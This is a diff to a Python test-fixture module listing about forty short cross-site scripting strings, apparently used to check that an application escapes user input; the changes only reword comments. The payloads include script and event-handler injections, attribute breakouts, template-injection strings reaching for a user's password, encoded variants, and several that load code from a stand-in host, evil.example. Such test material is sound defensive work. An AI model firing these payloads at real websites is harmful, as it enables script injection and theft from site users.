@@ -1,15 +1,15 @@
-"""Forty strings that try to be more than text.
+"""Forty strings that attempt cross-site scripting.
 
-Whoever gets one of them to run sets `window.pwned`, opens a dialog, or leaves an element with the name
-`pwned` behind. Each fits into the shortest field that takes foreign words (64 characters).
+A string that gets through sets `window.pwned`, opens a dialog, or leaves an element named `pwned` behind.
+Each fits into the shortest field that takes foreign text (64 characters).
 """
 
 from __future__ import annotations
 
-TAG = "injected"  # stands before each in what was said, so that it can be searched for
+TAG = "injected"  # precedes each string in transcripts, so that a search finds it
 
 STRINGS: tuple[str, ...] = (
-    # Elements that run something
+    # Elements that execute code
     "<script>pwned=1;alert(1)</script>",
     "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
     "</script><script>alert(`pwned`)</script>",
@@ -30,7 +30,7 @@ STRINGS: tuple[str, ...] = (
     "<link id=pwned rel=stylesheet href=//evil.example/a.css>",
     "<style id=pwned>*{background:url(//evil.example)}</style>",
     "<template id=pwned><b>x</b></template><marquee onstart=alert(1)>",
-    # Out of an attribute, a script, a comment, a text area
+    # Breaking out of an attribute, a script, a comment, a text area
     '" onmouseover="alert(1)" id="pwned',
     "' onfocus='alert(1)' autofocus id='pwned",
     '"><img src=x id=pwned onerror=alert(1)>',
@@ -42,12 +42,12 @@ STRINGS: tuple[str, ...] = (
     "</time></span></td><td id=pwned>",
     "javascript:alert(document.domain)//pwned",
     "data:text/html,<script>alert(1)</script>",
-    # Templates: the server's, Alpine's, htmx's
+    # Template syntax: Django's, Alpine's, htmx's
     "{{ 7|add:7 }}{% debug %}{{ request.user.password }}",
     "${alert(1)}#{alert(1)}{{constructor.constructor('alert(1)')()}}",
     "<div id=pwned x-data x-init='alert(1)'></div>",
     "<div id=pwned hx-get=/admin/ hx-trigger=load></div>",
-    # Entities, other spellings, directions
+    # Entities, encodings, text direction
     "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b id=pwned&#62;",
     "%3Cscript%3Ealert(1)%3C%2Fscript%3E \\u003cimg id=pwned\\u003e",
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e <\u0130mg id=pwned>",
